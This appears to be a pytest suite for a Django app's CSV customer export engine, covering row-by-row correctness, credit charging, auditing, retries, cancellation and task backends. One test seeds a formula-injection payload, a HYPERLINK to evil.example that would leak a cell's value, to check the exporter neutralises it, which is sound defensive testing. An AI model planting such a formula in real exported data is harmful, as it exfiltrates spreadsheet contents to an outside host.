"""The export engine end to end: real worker code, real HTTP, the sandbox served by the live server.

Each test seeds the sandbox ledger, runs an export the way the worker does (the task function, the
django-tasks immediate backend, or the database backend with `db_worker`), and reads the CSV back row
by row against the sandbox's own records.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django_tasks_db.models import DBTaskResult

from customers.audit.models import AuditEntry
from customers.audit.trail import Actor
from customers.credits.client import tatum_client
from customers.credits.models import ApiCall
from customers.exports import engine
from customers.exports.engine import CSV_COLUMNS, export_run
from customers.exports.filters import ExportFilter
from customers.exports.models import ExportJob
from customers.exports.selectors import export_file_path
from customers.exports.services import export_cancel, export_start
from customers.exports.tasks import export_customers
from customers.tatum.reference import country_name
from sandbox.faults import fault_next, fault_plan_clear, fault_plan_set
from sandbox.models import CreditUsage
from sandbox.models import Customer as LedgerCustomer
from tests.live import hang_up, sharing_the_test_database
from tests.users import make_user, roles_ensure

SEEDED = 230  # five pages of 50: four full, one short
IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
# The live server needs committed data (and sees it through its own connections on PostgreSQL).
pytestmark = pytest.mark.django_db(transaction=True)

FILE_NAME = re.compile(r"^customers-(all|filtered)-\d{8}T\d{6}Z\.csv$")


@pytest.fixture(autouse=True)
def roles(transactional_db):
    roles_ensure()


@pytest.fixture
def ledger(live_server, settings, tmp_path):
    """The dashboard pointed at the live sandbox, with a seeded ledger and an empty export folder."""
    settings.TATUM_API_URL = f"{live_server.url}/sandbox"
    settings.TATUM_EXPORT_CONCURRENCY = 4
    settings.TATUM_TIMEOUT = (2.0, 5.0)
    settings.EXPORT_ROOT = tmp_path / "exports"
    with sharing_the_test_database(live_server):
        call_command("seed_sandbox", customers=SEEDED, seed=1, stdout=io.StringIO())
        # Today's credit counter row exists before pages are read concurrently.
        tatum_client().list_customers(page_size=1)
        ApiCall.objects.all().delete()
        # A 429 asks for no wait, so that the client's retries stay quick.
        fault_plan_set(retry_after_seconds=0)
        yield live_server
        fault_plan_clear()
    hang_up(live_server)


@pytest.fixture
def manager(db):
    return make_user("Manager", "morgan")


def start(user, export_filter: ExportFilter | None = None) -> ExportJob:
    """A queued job, as the form makes it (the default database backend only stores the task)."""
    return export_start(
        actor=Actor(user=user, request_id="req-export-test"), export_filter=export_filter or ExportFilter()
    )


def read_csv(job: ExportJob) -> list[dict[str, str]]:
    raw = export_file_path(job).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "the file starts with a UTF-8 byte order mark for Excel"
    reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    header, *rows = list(reader)
    assert tuple(header) == CSV_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


def expected_row(customer: LedgerCustomer) -> dict[str, str]:
    def name(code: str) -> str:
        return country_name(code) if code else ""

    return {
        "id": customer.ledger_id,
        "externalId": customer.external_id,
        "active": "true" if customer.active else "false",
        "enabled": "true" if customer.enabled else "false",
        "accountingCurrency": customer.accounting_currency,
        "customerCountry": customer.customer_country,
        "customerCountryName": name(customer.customer_country),
        "providerCountry": customer.provider_country,
        "providerCountryName": name(customer.provider_country),
    }


def sandbox_credits() -> int:
    """What the sandbox charged: one credit for every read it saw, whatever the answer."""
    return sum(CreditUsage.objects.values_list("credits", flat=True))


def files_in(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir()) if folder.exists() else []


# --- Whole exports ---------------------------------------------------------------------------------


def test_export_of_all_customers_matches_the_ledger_row_by_row(ledger, manager, settings):
    job = export_run(job_id=start(manager).pk)

    assert job.status == ExportJob.Status.SUCCEEDED
    assert FILE_NAME.match(job.file_name) and job.file_name.startswith("customers-all-")
    assert read_csv(job) == [expected_row(customer) for customer in LedgerCustomer.objects.order_by("pk")]
    assert (job.pages_read, job.rows_read, job.rows_written, job.duplicates_skipped) == (5, 230, 230, 0)
    assert job.file_size == export_file_path(job).stat().st_size
    assert files_in(Path(settings.EXPORT_ROOT)) == [f"{job.pk}-{job.file_name}"], "no partial file is left"


def test_every_page_read_is_charged_to_the_user_who_asked(ledger, manager):
    job = export_run(job_id=start(manager).pk)

    calls = ApiCall.objects.filter(route="/v3/ledger/customer")
    assert calls.count() == job.credits_spent >= job.pages_read
    assert set(calls.values_list("user", flat=True)) == {manager.pk}
    assert set(calls.values_list("request_id", flat=True)) == {"req-export-test"}


def test_requesting_and_finishing_an_export_are_audited(ledger, manager):
    job = export_run(job_id=start(manager).pk)

    entries = AuditEntry.objects.filter(actor=manager).order_by("sequence")
    assert [(entry.action, entry.outcome) for entry in entries] == [
        (AuditEntry.Action.EXPORT_CUSTOMERS, AuditEntry.Outcome.SUCCEEDED),
        (AuditEntry.Action.EXPORT_FINISHED, AuditEntry.Outcome.SUCCEEDED),
    ]
    assert f"Export {job.pk}: All customers" in entries[0].reason
    assert "230 rows written" in entries[1].reason


def test_filtered_export_writes_only_the_matching_customers(ledger, manager):
    wanted = ExportFilter(active=True, compliance_gap=True)
    job = export_run(job_id=start(manager, wanted).pk)

    matching = [
        customer
        for customer in LedgerCustomer.objects.order_by("pk")
        if customer.active and not (customer.customer_country and customer.provider_country)
    ]
    assert 0 < len(matching) < SEEDED
    assert job.file_name.startswith("customers-filtered-")
    assert read_csv(job) == [expected_row(customer) for customer in matching]
    assert (job.rows_read, job.rows_written) == (SEEDED, len(matching))


def test_export_filtered_by_country_and_disabled_state(ledger, manager):
    country = LedgerCustomer.objects.exclude(customer_country="").values_list("customer_country", flat=True)[
        0
    ]
    job = export_run(job_id=start(manager, ExportFilter(enabled=True, customer_country=country)).pk)

    matching = LedgerCustomer.objects.filter(enabled=True, customer_country=country).order_by("pk")
    assert read_csv(job) == [expected_row(customer) for customer in matching]


def test_text_that_a_spreadsheet_would_run_is_written_as_plain_text(ledger, manager):
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    tatum_client().create_account(currency="BTC", external_id=formula)
    tatum_client().create_account(currency="BTC", external_id="+1-202-555-0100", customer_country="DE")

    rows = {row["externalId"]: row for row in read_csv(export_run(job_id=start(manager).pk))}

    assert "'" + formula in rows
    assert "'+1-202-555-0100" in rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())


# --- A ledger that changes, an upstream that fails -------------------------------------------------


def test_customers_repeated_by_shifting_pages_are_written_once(ledger, manager, monkeypatch, settings):
    """Offset paging: customers added before the read position push the rest down a page boundary."""
    write_page = engine._ExportRun._write_page

    def write_then_insert(run, writer, page, customers):
        write_page(run, writer, page, customers)
        if page == 0:
            for n in range(1, 11):
                LedgerCustomer.objects.create(pk=-n, ledger_id=f"{n:024x}", external_id=f"late-{n}")

    monkeypatch.setattr(engine._ExportRun, "_write_page", write_then_insert)
    original = [expected_row(customer) for customer in LedgerCustomer.objects.order_by("pk")]
    settings.TATUM_EXPORT_CONCURRENCY = 1
    job = export_run(job_id=start(manager).pk)

    rows = read_csv(job)
    assert rows == original, "every customer once, in ledger order"
    assert (job.rows_read, job.duplicates_skipped, job.rows_written) == (240, 10, 230)


@pytest.mark.parametrize("kind", ["drop", "429"])
def test_pages_that_fail_for_a_while_are_read_again_by_the_client_and_the_file_is_complete(
    ledger, manager, settings, kind
):
    settings.TATUM_MAX_RETRIES = 3
    # The next 3 calls fail, whichever reads they are: the first reads of pages 1 to 4 go out at once,
    # but a page's retry may reach the sandbox before another page's first read. No more faults than a
    # page has retries, so that even a page that draws them all is read in the end.
    fault_next([kind], count=3)

    job = export_run(job_id=start(manager).pk)

    assert job.status == ExportJob.Status.SUCCEEDED, job.error_message
    assert job.page_retries == 3, "each failed read was made once more"
    assert ApiCall.objects.count() == job.credits_spent
    assert ApiCall.objects.exclude(status=200).count() == 3, "each failed call is recorded and charged"
    assert read_csv(job) == [expected_row(customer) for customer in LedgerCustomer.objects.order_by("pk")]


def test_a_page_costs_at_most_four_calls_before_the_export_fails_with_a_reason(ledger, manager, settings):
    """docs/exports.md: at most 1 + TATUM_MAX_RETRIES calls, 4 credits, per page."""
    settings.TATUM_EXPORT_CONCURRENCY = 1  # one page in flight, so every call is the first page's
    fault_plan_set(rate=1.0, kinds=["drop"])
    charged_before = sandbox_credits()

    job = export_run(job_id=start(manager).pk)

    sandbox_calls = sandbox_credits() - charged_before
    assert sandbox_calls == ApiCall.objects.count() == job.credits_spent == 4
    assert job.status == ExportJob.Status.FAILED
    assert job.error_message.startswith("Page 1 could not be read. Tatum cannot be reached right now.")
    assert files_in(Path(settings.EXPORT_ROOT)) == [job.partial_name], "only the partial file, for Retry"
    finished = AuditEntry.objects.get(action=AuditEntry.Action.EXPORT_FINISHED)
    assert finished.outcome == AuditEntry.Outcome.FAILED
    assert "could not be read" in finished.error_message


@pytest.mark.parametrize("kind,code", [("500", "http_500"), ("malformed", "TatumProtocolError")])
def test_a_500_or_a_garbled_answer_fails_the_export_at_once(ledger, manager, settings, kind, code):
    settings.TATUM_EXPORT_CONCURRENCY = 1
    fault_plan_set(rate=1.0, kinds=[kind])

    job = export_run(job_id=start(manager).pk)

    assert (job.status, job.error_code, job.credits_spent) == (ExportJob.Status.FAILED, code, 1)
    assert files_in(Path(settings.EXPORT_ROOT)) == [job.partial_name], "no file, a partial one for Retry"


def test_a_bad_api_key_fails_at_once_without_retrying(ledger, manager, settings):
    settings.SANDBOX_MODE = False  # the client now sends TATUM_API_KEY, which the sandbox refuses
    settings.TATUM_API_KEY = "not-the-sandbox-key"
    settings.TATUM_EXPORT_CONCURRENCY = 1

    job = export_run(job_id=start(manager).pk)

    assert job.status == ExportJob.Status.FAILED
    assert "API key" in job.error_message
    assert ApiCall.objects.count() == 1


def test_cancelling_stops_the_worker_between_pages_and_keeps_no_file(ledger, manager, monkeypatch, settings):
    settings.TATUM_EXPORT_CONCURRENCY = 1
    monkeypatch.setattr(engine, "PROGRESS_INTERVAL", 0)
    write_page = engine._ExportRun._write_page
    job = start(manager)

    def write_then_cancel(run, writer, page, customers):
        write_page(run, writer, page, customers)
        if page == 1:
            export_cancel(actor=Actor(user=manager), job=ExportJob.objects.get(pk=job.pk))

    monkeypatch.setattr(engine._ExportRun, "_write_page", write_then_cancel)
    job = export_run(job_id=job.pk)

    assert job.status == ExportJob.Status.CANCELLED
    assert job.pages_read == 2
    assert files_in(Path(settings.EXPORT_ROOT)) == []
    finished = AuditEntry.objects.get(action=AuditEntry.Action.EXPORT_FINISHED)
    assert (finished.outcome, finished.error_code) == (AuditEntry.Outcome.FAILED, "cancelled")


def test_a_job_cancelled_while_queued_is_never_run(ledger, manager):
    job = start(manager)
    export_cancel(actor=Actor(user=manager), job=job)

    job = export_run(job_id=job.pk)

    assert job.status == ExportJob.Status.CANCELLED
    assert job.pages_read == 0
    assert not ApiCall.objects.exists()


# --- Through the Tasks API -------------------------------------------------------------------------


def test_the_database_backend_queues_the_job_and_db_worker_runs_it(ledger, manager):
    job = start(manager)
    assert ExportJob.objects.get(pk=job.pk).status == ExportJob.Status.QUEUED

    call_command("db_worker", batch=True, startup_delay=False, verbosity=0)

    job.refresh_from_db()
    assert job.status == ExportJob.Status.SUCCEEDED
    assert DBTaskResult.objects.get(pk=job.task_id).status == "SUCCESSFUL"
    assert len(read_csv(job)) == SEEDED


def test_the_task_runs_the_job_and_returns_a_summary(ledger, manager):
    job = start(manager)

    summary = export_customers.call(job.pk)

    assert summary == {"job": job.pk, "status": "succeeded", "rows_written": SEEDED}


def test_a_manager_starts_an_export_and_the_page_shows_it_finished(ledger, manager, client, settings):
    settings.TASKS = IMMEDIATE
    client.force_login(manager)

    response = client.post("/exports/new/", {"scope": "all"}, follow=True)

    job = ExportJob.objects.get()
    assert response.redirect_chain[-1][0] == f"/exports/{job.pk}/"
    page = response.content.decode()
    assert "Finished in" in page
    assert f"/exports/{job.pk}/download/" in page
    download = client.get(f"/exports/{job.pk}/download/")
    body = b"".join(download.streaming_content)
    assert body.decode("utf-8-sig").count("\r\n") == SEEDED + 1


def test_a_second_complete_export_estimates_its_total_from_the_first(ledger, manager, settings):
    settings.TASKS = IMMEDIATE
    first = start(manager)
    second = start(manager)

    first.refresh_from_db()
    second.refresh_from_db()
    assert first.estimated_rows is None
    assert second.estimated_rows == SEEDED
